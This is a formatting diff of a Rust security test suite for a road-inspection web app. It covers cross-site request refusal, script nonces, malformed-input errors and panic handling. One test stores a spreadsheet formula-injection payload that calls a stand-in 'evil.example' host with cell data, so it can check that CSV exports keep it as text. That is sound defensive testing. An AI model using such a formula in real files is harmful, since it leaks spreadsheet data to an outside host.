@@ -41,7 +41,8 @@ async fn another_sites_page_cannot_sign_in_sign_out_or_write() {
     // body-less posts are all refused; the page's own requests go through.
     let chief = app.user("chief01").await;
     let before = app.footprint().await;
-    let op = json!({"id": new_uuid(), "op": {"kind": "start_inspection", "road_id": "market-road-1", "week": app.week()}});
+    let op =
+        json!({"id": new_uuid(), "op": {"kind": "start_inspection", "road_id": "market-road-1", "week": app.week()}});
     let write = chief.post(app.url("/api/v1/operations")).header("origin", evil).json(&op).send().await.unwrap();
     assert_eq!(write.status(), StatusCode::FORBIDDEN);
     let server_fn = chief.post(app.url("/api/chief_home")).header("sec-fetch-site", "same-site").send().await.unwrap();
@@ -81,7 +82,10 @@ async fn pages_run_only_their_own_scripts_and_are_never_framed_or_kept() {
     assert!(html.contains("<script"));
     for script in html.split("<script").skip(1) {
         let tag = script.split('>').next().unwrap();
-        assert!(tag.contains(" src=") || tag.contains(&format!("nonce=\"{nonce}\"")), "a script without the nonce: {tag}");
+        assert!(
+            tag.contains(" src=") || tag.contains(&format!("nonce=\"{nonce}\"")),
+            "a script without the nonce: {tag}"
+        );
     }
     let again = chief.get(app.url("/roads/market-road-1")).send().await.unwrap();
     assert!(!header(&again, "content-security-policy").contains(&nonce), "a fresh nonce per page");
@@ -144,7 +148,11 @@ async fn notes_that_look_like_formulas_stay_text_in_the_csv() {
     let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")";
     let mut f = app.finding(&chief, "market-road-1", "sanitation", hostile).await;
     f.note = hostile.into();
-    let op = app::api::operations::Operation::RecordFinding { road_id: "market-road-1".into(), week: app.week(), finding: f };
+    let op = app::api::operations::Operation::RecordFinding {
+        road_id: "market-road-1".into(),
+        week: app.week(),
+        finding: f,
+    };
     assert_eq!(app.send(&chief, new_uuid(), &op).await.status(), StatusCode::OK);
     let coordinator = app.user("coordinator").await;
     let today = app.now().local_date();
@@ -182,8 +190,7 @@ async fn every_client_mistake_is_a_localized_4xx() {
     assert_eq!((status, code.as_str()), (StatusCode::BAD_REQUEST, "malformed"));
     assert_eq!(message, "请求格式不正确。");
     let (status, _, message) =
-        refusal(chief.post(app.url("/api/finding")).header("accept-language", "en").form(&[("identity", "x")]))
-            .await;
+        refusal(chief.post(app.url("/api/finding")).header("accept-language", "en").form(&[("identity", "x")])).await;
     assert_eq!((status, message.as_str()), (StatusCode::BAD_REQUEST, "The request was not understood."));
     // 11 MB to a server function: refused before it is read.
     let big = vec![b'a'; 11 * 1024 * 1024];
@@ -193,29 +200,38 @@ async fn every_client_mistake_is_a_localized_4xx() {
         refusal(chief.post(app.url("/api/v1/operations")).header("content-type", "application/json").body(big)).await;
     assert_eq!((status, code.as_str()), (StatusCode::PAYLOAD_TOO_LARGE, "body_too_large"));
     // Not UTF-8, and nested past any sense.
-    let (status, code, _) = refusal(chief.post(app.url("/api/v1/operations")).header("content-type", "application/json").body(b"{\"id\": \"\xff\xfe\"}".to_vec()),
+    let (status, code, _) = refusal(
+        chief
+            .post(app.url("/api/v1/operations"))
+            .header("content-type", "application/json")
+            .body(b"{\"id\": \"\xff\xfe\"}".to_vec()),
     )
     .await;
     assert_eq!((status, code.as_str()), (StatusCode::BAD_REQUEST, "malformed"));
     let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
-    let (status, code, _) = refusal(chief.post(app.url("/api/v1/sync")).header("content-type", "application/json").body(deep.clone()),
-    )
-    .await;
+    let (status, code, _) =
+        refusal(chief.post(app.url("/api/v1/sync")).header("content-type", "application/json").body(deep.clone()))
+            .await;
     assert_eq!((status, code.as_str()), (StatusCode::BAD_REQUEST, "malformed"));
-    let (status, _, _) = refusal(chief.post(app.url("/api/v1/session")).header("content-type", "application/json").body(deep)).await;
+    let (status, _, _) =
+        refusal(chief.post(app.url("/api/v1/session")).header("content-type", "application/json").body(deep)).await;
     assert_eq!(status, StatusCode::BAD_REQUEST);
     // Absurd times and years.
     let mut f = app.finding(&chief, "market-road-1", "sanitation", "很久以前").await;
     for absurd in [i64::MIN, 0, app.now().millis() - 40 * 86_400_000] {
         f.observed_at = app::domain::time::Timestamp(absurd);
-        let (status, code, _) = error_code(app.send(&chief, new_uuid(), &submit(&app, "market-road-1", vec![f.clone()])).await).await;
+        let (status, code, _) =
+            error_code(app.send(&chief, new_uuid(), &submit(&app, "market-road-1", vec![f.clone()])).await).await;
         assert_eq!((status, code.as_str()), (StatusCode::BAD_REQUEST, "observed_too_long_ago"), "{absurd}");
     }
     f.observed_at = app::domain::time::Timestamp(i64::MAX);
-    let (status, code, _) = error_code(app.send(&chief, new_uuid(), &submit(&app, "market-road-1", vec![f])).await).await;
+    let (status, code, _) =
+        error_code(app.send(&chief, new_uuid(), &submit(&app, "market-road-1", vec![f])).await).await;
     assert_eq!((status, code.as_str()), (StatusCode::BAD_REQUEST, "observed_in_future"));
     let coordinator = app.user("coordinator").await;
-    for query in ["from=-9999-01-01&to=2026-01-01", "from=2026-01-01&to=99999999-12-31", "from=0000-00-00&to=2026-01-01"] {
+    for query in
+        ["from=-9999-01-01&to=2026-01-01", "from=2026-01-01&to=99999999-12-31", "from=0000-00-00&to=2026-01-01"]
+    {
         let response = coordinator.get(app.url(&format!("/api/v1/exports/findings.csv?{query}"))).send().await.unwrap();
         assert!(response.status().is_client_error(), "{query}: {}", response.status());
     }
@@ -231,12 +247,15 @@ async fn a_handler_that_panics_answers_500_and_the_server_goes_on() {
     let app = spawn_app().await;
     // The same guard the real routes pass through, around a route that panics.
     let routes = axum::Router::new()
-        .route("/boom", axum::routing::get(|| async {
-            if true {
-                panic!("a bug in a handler");
-            }
-            "never"
-        }))
+        .route(
+            "/boom",
+            axum::routing::get(|| async {
+                if true {
+                    panic!("a bug in a handler");
+                }
+                "never"
+            }),
+        )
         .route("/fine", axum::routing::get(|| async { "fine" }));
     let router = server::startup::guarded(routes, &app.state.settings).with_state(app.state.clone());
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
